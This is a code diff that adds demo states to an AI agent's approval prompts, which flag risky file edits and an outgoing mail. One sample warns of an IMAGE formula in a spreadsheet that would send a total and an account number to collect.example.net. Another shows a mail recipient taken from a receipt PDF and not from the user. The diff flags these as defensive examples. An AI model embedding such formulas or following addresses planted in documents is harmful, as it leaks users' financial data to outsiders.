@@ -25,7 +25,15 @@ from agent.core.messages import AssistantMessage, Evidence, Outcome, Text, ToolC
 from desktop.wire import messages as wire
 
 LIVE = "live"
-STATES = {"running": "running", "waiting": "waiting", "asking": "waiting", "done": "done", "failed": "needs_user"}
+STATES = {
+    "running": "running",
+    "waiting": "waiting",
+    "asking": "waiting",
+    "noted": "waiting",
+    "outward": "waiting",
+    "done": "done",
+    "failed": "needs_user",
+}
 
 
 class Story:
@@ -172,6 +180,12 @@ class Story:
                 call = ToolCall("c9", "organise", "{}")
                 title = self.say("Tidy up 3 duplicates", "重複ファイル 3 個を整理")
                 return [CallStarted(call, title), QuestionAsked("c9", self.rows())]
+            case "noted":
+                call = ToolCall("c9", "organise", "{}")
+                return [CallStarted(call, self.say("Tidy up", "整理")), QuestionAsked("c9", self.noted())]
+            case "outward":
+                call = ToolCall("c9", "send", "{}")
+                return [CallStarted(call, self.say("Send a mail", "メールを送信")), QuestionAsked("c9", self.outward())]
             case "asking":
                 call = ToolCall("c9", "ask", "{}")
                 return [CallStarted(call, self.say("Ask you", "確認")), QuestionAsked("c9", self.choice())]
@@ -211,7 +225,52 @@ class Story:
             Row(at, Effect.DELETE, name, same.format(twin), True, size) for at, (name, twin, size) in enumerate(names)
         )
         title = say("Delete 3 duplicates", "重複ファイル 3 個を削除")
-        return Question("q1", title, rows=rows, digest="d", offers=(Grant(Effect.DELETE, "receipt_*"),))
+        why = say("Delete 3 (3.5 MB). 2 PDFs, 1 photo, in “October”.",
+                  "削除 3 件(3.5 MB)。PDF 2 件、写真 1 件。場所は「2026年10月」です。")  # fmt: skip
+        return Question("q1", title, why, rows, digest="d", offers=(Grant(Effect.DELETE, "*.pdf"),))
+
+    def noted(self):
+        say = self.say
+        sheet, report = say("expenses.xlsx", "経費精算書.xlsx"), say("Reports/summary.docx", "報告/要約.docx")
+        fetches = say(
+            "Opening it would contact https://collect.example.net/p.gif?total=184260&account=2231 (IMAGE, D40).",
+            "開くと https://collect.example.net/p.gif?total=184260&account=2231 に接続します(数式 IMAGE、D40)。",
+        )
+        shrinks = say("It would shrink from 48,120 to 2,310 bytes. That looks like a loss.",
+                      "48,120 バイトから 2,310 バイトに減ります。内容が失われるおそれがあります。")  # fmt: skip
+        unplanned = say("Not in the plan.", "計画にない操作です。")
+        rows = (
+            Row(0, Effect.WRITE, sheet, "changed", True, 48_200, (fetches,)),
+            Row(1, Effect.WRITE, report, "changed", True, 2_310, (shrinks,)),
+            Row(2, Effect.DELETE, say("scan0002.pdf", "スキャン0002.pdf"), "deleted", True, 420_000, (unplanned,)),
+            Row(3, Effect.DELETE, say("scan0003.pdf", "スキャン0003.pdf"), "deleted", True, 380_000),
+            Row(4, Effect.WRITE, say("Reports/notes.md", "報告/メモ.md"), "new", False, 1_200),
+        )
+        why = say("Delete 2, overwrite 2, new 1 (852 kB). 1 of them is not in the plan.",
+                  "削除 2 件、上書き 2 件、新規 1 件(852 kB)。うち 1 件は計画にありません。")  # fmt: skip
+        return Question("q3", say("Fill in and tidy up", "転記と整理"), why, rows, digest="d",
+                        offers=(Grant(Effect.WRITE, say("Reports/*.docx", "報告/*.docx")),
+                                Grant(Effect.WRITE, say("Reports/*.docx", "報告/*.docx"), "always")))  # fmt: skip
+
+    def outward(self):
+        say = self.say
+        body = say(
+            "Dear Ms Mori, please find the October expenses attached. The total is ¥184,260. Kind regards, Aya",
+            "森様 10月分の経費精算書をお送りします。合計は ¥184,260 です。よろしくお願いいたします。",
+        )
+        detail = "\n".join((
+            say("to: mori@kita-kaze.example", "宛先: mori@kita-kaze.example"),
+            say("subject: October expenses", "件名: 10月分の経費"),
+            say(f"text: {body}", f"本文: {body}"),
+            say("file: expenses.xlsx (48 kB)", "ファイル: 経費精算書.xlsx(48 kB)"),
+        ))  # fmt: skip
+        note = say("You did not name mori@kita-kaze.example (to).",
+                   "mori@kita-kaze.example(宛先)は、ご指示の中にありません。")  # fmt: skip
+        row = Row(0, Effect.SEND, "mail.example.com", detail, True, notes=(note,))
+        why = say("The address comes from “receipt_10-08.pdf”, not from you.",
+                  "この宛先は、ご指示ではなく「receipt_10-08.pdf」に書かれていたものです。")  # fmt: skip
+        return Question("q4", say("Send a mail", "メールを送信"), why, (row,), digest="d", undoable=False,
+                        offers=(Grant(Effect.SEND, "mori@kita-kaze.example"),))  # fmt: skip
 
     def choice(self):
         say = self.say
